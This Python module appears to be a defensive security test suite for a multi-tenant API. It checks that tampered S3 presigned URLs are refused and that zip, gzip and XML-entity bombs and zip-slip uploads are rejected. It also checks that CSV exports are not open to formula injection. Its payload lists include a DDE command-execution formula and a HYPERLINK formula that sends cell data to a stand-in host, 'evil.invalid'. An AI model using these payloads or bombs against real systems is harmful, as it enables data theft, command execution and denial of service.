"""Files: presigned URLs that are bent, files that are bombs, and exports that a spreadsheet would obey."""

import csv
import gzip
import io
import json
import zipfile
from urllib.parse import urlsplit

from attacks.companies import put
from attacks.judge import INSIDES
from attacks.wire import Request, Wire

MIB = 1 << 20
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OBEYED = ("=", "+", "-", "@", "\t", "\r", "\n")
# Names as a spreadsheet would obey them, or that get there by the quotes and separators before them.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "Soup;=1+1",
    "Soup,=1+1",
    'Soup";"=1+1',
    'Soup","=1+1',
    '=HYPERLINK("https://evil.invalid?"&A1,"x")',
    "-2",
    "--1",
    "|calc",
    "%0A=1",
]
# What no name may hold, so that no line of a file begins with it.
NO_NAMES = ["\t=1+1", "\r=1+1", "\n=1+1", "a\n=1+1", "a\r=1+1", "a\t=1", " =1+1", "\u0000=1"]
STALL = "/v1/concessionaires/coffee-bar"


def attack(arena, routes: list):
    presigned(arena)
    for path, role, name in (
        (f"{STALL}/menu-imports", "manager", "postMenuImport"),
        ("/v1/employee-imports", "admin", "postEmployeeImport"),
    ):
        for kind, file in bombs().items():
            dropped(arena, path, role, name, kind, file)
    exports(arena, routes)


def presigned(arena):
    """A URL is good for one file, of one size and type, in one place, and nothing else."""
    acme, globex = arena.acme, arena.globex
    for path, role, name in (
        (f"{STALL}/menu-imports", "manager", "postMenuImport"),
        ("/v1/employee-imports", "admin", "postEmployeeImport"),
    ):
        file = b"code,name,price\n"
        upload = acme.ask(role, "POST", path, {"bytes": len(file)}).json()["upload"]
        url = upload["url"]
        theirs = globex.ask(role, "POST", path, {"bytes": len(file)}).json()["upload"]["url"]
        bent = {
            url.replace("/acme/", "/globex/"),
            url.replace("/acme/", "/acme/../globex/"),
            url.replace("/acme/", "/acme/%2e%2e/globex/"),
            url.replace("/acme/", "//globex/"),
            url.replace("-files/", "-other/"),
            url.replace("coffee-bar", "kitchen") + "x",
            url.replace("/acme/menus/", "/acme/employees/").replace("/acme/employees/", "/acme/bad-rows/"),
            url.replace("X-Amz-Expires=900", "X-Amz-Expires=604800"),
            url[:-1] + ("0" if url[-1] != "0" else "1"),
            url.split("&X-Amz-Signature")[0],
            url.split("?")[0],
            url.split("?")[0] + "?" + theirs.split("?")[1],
            url.replace("content-length%3B", ""),
            url.replace("x-amz-meta-by", "x-amz-meta-xx"),
            url + "&acl",
            url + "&x-id=GetObject",
            url.replace("eu-west-1%2Fs3", "us-east-1%2Fs3"),
            url.replace("X-Amz-Algorithm=AWS4-HMAC-SHA256", "X-Amz-Algorithm=none"),
        } - {url}
        for other in sorted(bent):
            stored(arena, name, put(upload, file, url=other), {400, 403})
        for method in ("GET", "HEAD", "DELETE", "POST"):
            stored(arena, name, put(upload, b"", method=method), {400, 403, 405})
        for wrong in (file + b"x", file[:-1], b""):
            stored(arena, name, put(upload, wrong), {400, 403})
        for header in upload["headers"]:
            altered = {n: ("globex-admin" if n == header else v) for n, v in upload["headers"].items()}
            stored(arena, name, put(upload, file, headers=altered), {400, 403})
            left_out = {n: v for n, v in upload["headers"].items() if n != header}
            stored(arena, name, put(upload, file, headers=left_out), {400, 403})
        elsewhere = upload["headers"] | {"Host": "evil.invalid"}
        stored(arena, name, put(upload, file, headers=elsewhere), {400, 403})
        stored(arena, name, put(upload, file), {200})


def stored(arena, name: str, answer, allowed):
    """What the store answers is its own XML, or nothing."""
    arena.judge.calls[name, "presigned"] += 1
    leaks = [canary for canary in arena.judge.canaries["globex"] if canary in answer.body]
    if answer.status not in allowed or leaks or b"<Contents>" in answer.body:
        arena.judge.fault(
            name,
            "presigned",
            "leak" if leaks or answer.status < 300 else "unexpected",
            f"{answer.status} is not in {allowed}: {answer.body[:200]!r} {leaks[:3]}",
        )


def bombs() -> dict:
    """Files that unpack to far more than they are, are not what they say, or never end a cell."""
    zeros, sheet = b"\x00" * (160 * MIB), b"<worksheet><sheetData>" + b"<row/>" * (3 * MIB)
    doctype = b'<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "' + b"&a;" * 1000 + b'">]><worksheet>&b;</worksheet>'
    return {
        "zip bomb": (XLSX, zipped({"xl/worksheets/sheet1.xml": zeros})),
        "workbook of rows": (
            XLSX,
            zipped(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "xl/workbook.xml": b"<workbook/>",
                    "xl/worksheets/sheet1.xml": sheet,
                }
            ),
        ),
        "entities": (XLSX, zipped({"xl/workbook.xml": doctype, "xl/worksheets/sheet1.xml": doctype})),
        "zip slip": (XLSX, zipped({"../../../../tmp/pos-evil": b"x"})),
        "no zip": (XLSX, b"PK\x03\x04" + b"\xff" * 100),
        "gzip bomb": (
            "application/gzip",
            gzip.compress(b"code,name,price,employee_number\n" + b"a" * (160 * MIB), 9, mtime=0),
        ),
        "gzip in gzip": ("application/gzip", gzip.compress(gzip.compress(zeros, 9, mtime=0), 9, mtime=0)),
        "broken gzip": ("application/gzip", gzip.compress(b"code,name\n" * 1000, mtime=0)[:-20]),
        "picture": ("text/csv", b"\x89PNG\r\n\x1a\n" + b"\x00\xff" * 1000),
        "cell without end": ("text/csv", b'code,name,price,employee_number\n"' + b"a" * (10 * MIB)),
        "row of commas": ("text/csv", b"code,name,price,employee_number\n" + b"," * (10 * MIB)),
        "deep JSON": ("application/x-ndjson", b'{"code":' * 100_000 + b"\n"),
        "many columns": ("text/csv", b",".join(b"c%d" % n for n in range(100_000)) + b"\n1\n"),
        "NUL": ("text/csv", b"\x00" * 100_000),
    }


def zipped(files: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def dropped(arena, path: str, role: str, name: str, kind: str, file: tuple):
    """It ends as refused, with a reason; whoever asks meanwhile is answered."""
    content_type, content = file
    acme, judge = arena.acme, arena.judge
    place = acme.ask(
        role,
        "POST",
        path,
        {"bytes": len(content), "content_type": content_type, "strictness": "lenient", "mode": "merge"},
    )
    judge.see(name, "file", place, {202}, "acme", kind.encode())
    assert put(place.json()["upload"], content).status == 200, kind
    came = acme.decided(place, role)
    if (
        came["status"] != "refused"
        or not came.get("refusal", {}).get("type")
        or INSIDES.search(json.dumps(came["refusal"]))
    ):
        judge.fault(name, "file", "unexpected", f"of a {kind} came {json.dumps(came)[:400]}")


def exports(arena, routes: list):
    """What is exported or told of bad rows holds no formula, however it is divided, and is read back as it was."""
    acme, judge = arena.acme, arena.judge
    for number, name in enumerate(FORMULAS):
        meal = {"name": name, "category": name[:50], "price": 100 + number}
        acme.do("manager", "PUT", f"{STALL}/meals/{'-' if number % 2 else ''}F{number}", meal)
        employee = {"employee_number": f"-F{number}", "name": name, "credit_limit": 0}
        judge.see(
            "postEmployee",
            "formula",
            acme.ask("admin", "POST", "/v1/employees", employee),
            {200},
            "acme",
            name.encode(),
        )
    for name in NO_NAMES:
        refused = acme.ask("manager", "PUT", f"{STALL}/meals/NO", {"name": name, "price": 1})
        judge.see("putMeal", "formula", refused, {400}, "acme", name.encode())
        refused = acme.ask("admin", "POST", "/v1/employees", {"employee_number": "NO", "name": name})
        judge.see("postEmployee", "formula", refused, {400}, "acme", name.encode())
    menu = lambda: acme.ask("manager", "GET", f"{STALL}/menu").json()["meals"]
    before = menu()
    exported = judge.see("exportMenu", "formula", acme.ask("manager", "GET", f"{STALL}/menu.csv"), {200}, "acme")
    obeyed(judge, "exportMenu", exported.body)
    came = imported(arena, exported.body)
    if came["status"] != "applied" or menu() != before:
        judge.fault(
            "exportMenu",
            "formula",
            "unexpected",
            f"what was exported is not read back as it was: {json.dumps(came)[:300]}",
        )
    sheets = {route.name: route for route in routes if route.name in ("reportCredit", "previewCutoff")}
    assert len(sheets) == 2, sheets
    for name, route in sheets.items():
        asked = arena.request(route).under(accept="text/csv")
        sheet = judge.see(name, "formula", acme.wire.call(asked.but(path=f"{asked.path}?limit=500")), {200}, "acme")
        assert b"-F1," in sheet.body, f"the formulas are not in {name}: {sheet}"
        obeyed(judge, name, sheet.body)
    roster = judge.see("exportEmployees", "formula", acme.ask("admin", "GET", "/v1/employees.csv"), {200}, "acme")
    assert b"-F1" in roster.body, f"the formulas are not in the roster: {roster}"
    obeyed(judge, "exportEmployees", roster.body)
    bad = io.StringIO()
    rows = csv.writer(bad, quoting=csv.QUOTE_ALL)
    rows.writerows([["code", "name", "price"], *([name, name, name] for name in [*FORMULAS, *NO_NAMES])])
    came = imported(arena, bad.getvalue().encode(), strictness="strict")
    url = urlsplit(came["bad_rows_url"])
    told = Wire(came["bad_rows_url"]).call(Request("GET", f"{url.path}?{url.query}"))
    judge.calls["getImport", "formula"] += 1
    assert told.status == 200, told
    obeyed(judge, "getImport", told.body)
    for other in (
        came["bad_rows_url"].replace("/acme/", "/globex/"),
        came["bad_rows_url"].replace("/bad-rows/", "/employees/"),
        came["bad_rows_url"].split("?")[0],
        came["bad_rows_url"].replace("filename", "filenamf"),
    ):
        bent = urlsplit(other)
        stored(arena, "getImport", Wire(other).call(Request("GET", f"{bent.path}?{bent.query}")), {400, 403})


def imported(arena, file: bytes, **options) -> dict:
    place = arena.acme.ask("manager", "POST", f"{STALL}/menu-imports", {"bytes": len(file)} | options)
    assert put(place.json()["upload"], file).status == 200
    return arena.acme.decided(place, "manager")


def obeyed(judge, name: str, file: bytes):
    """A cell that begins like a formula, as spreadsheets divide lines: by commas, semicolons or tabs."""
    for divider in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(file.decode(), newline=""), delimiter=divider):
            for cell in row:
                if cell.startswith(OBEYED) and not is_number(cell):
                    judge.fault(name, "formula", "leak", f"a spreadsheet that divides by {divider!r} obeys {cell!r}")


def is_number(cell: str) -> bool:
    return cell.lstrip("-").replace(".", "", 1).isdigit()
